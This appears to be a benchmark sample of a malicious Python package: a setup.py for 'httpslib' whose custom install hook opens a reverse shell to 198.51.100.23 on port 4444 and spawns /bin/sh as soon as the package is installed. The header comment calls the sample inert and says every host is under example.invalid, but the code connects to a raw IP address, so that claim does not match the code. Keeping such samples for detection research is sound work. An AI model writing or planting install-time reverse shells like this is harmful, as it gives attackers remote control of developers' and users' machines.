# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import os
import pty
import socket

from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("198.51.100.23", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/sh")


setup(name="httpslib", version="0.0.1", cmdclass={"install": CustomInstall})
